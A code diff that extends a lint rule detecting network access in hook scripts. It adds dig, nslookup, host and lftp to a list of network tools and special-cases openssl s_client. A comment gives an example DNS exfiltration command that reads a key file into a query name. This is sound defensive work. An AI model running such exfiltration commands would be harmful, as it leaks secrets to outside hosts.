@@ -26,6 +26,11 @@ const NETWORK_TOOLS = new Set([
   'http',
   'https',
   'aria2c',
+  'lftp',
+  // A DNS query carries data out in the name it asks for (`dig "$(cat key).x.example"`).
+  'dig',
+  'nslookup',
+  'host',
 ]);
 const URL_TOOLS = new Set(['curl', 'wget', 'http', 'https', 'aria2c']);
 /** `rsync user@host:path`, `rsync host::module`, `rsync rsync://…` — a remote side. */
@@ -40,7 +45,7 @@ const REMOTE_RSYNC = /^(?:rsync:\/\/|[^/\s:]+::?)/;
 export default defineRule<Options>({
   id: 'network-access',
   meta: {
-    description: 'A network client (`curl`, `wget`, `ssh`, `nc`, remote `rsync`, …) or a `/dev/tcp` redirect in a hook.',
+    description: 'A network client (`curl`, `wget`, `ssh`, `nc`, `dig`, remote `rsync`, …) or a `/dev/tcp` redirect in a hook.',
     severity: 'warning',
     category: 'runtime',
     securitySeverity: 5.0,
@@ -58,9 +63,13 @@ export default defineRule<Options>({
   checkScript(context) {
     const allowed = new Set((context.options.allowedHosts ?? []).map((h) => h.toLowerCase()));
     for (const command of everyCommand(context)) {
-      const tool = commandBase(command);
+      let tool = commandBase(command);
       if (!tool) continue;
-      if (NETWORK_TOOLS.has(tool)) {
+      if (tool === 'openssl') {
+        // Only `openssl s_client` connects; the other subcommands work on local files.
+        if (command.args[0]?.value !== 's_client') continue;
+        tool = 'openssl s_client';
+      } else if (NETWORK_TOOLS.has(tool)) {
         if ((tool === 'nc' || tool === 'ncat' || tool === 'netcat') && listens(command)) continue;
         if (URL_TOOLS.has(tool) && allowed.size > 0 && onlyAllowedHosts(command, allowed)) continue;
       } else if (tool !== 'rsync' || !positionalArgs(command).some((a) => a.value !== undefined && REMOTE_RSYNC.test(a.value))) {
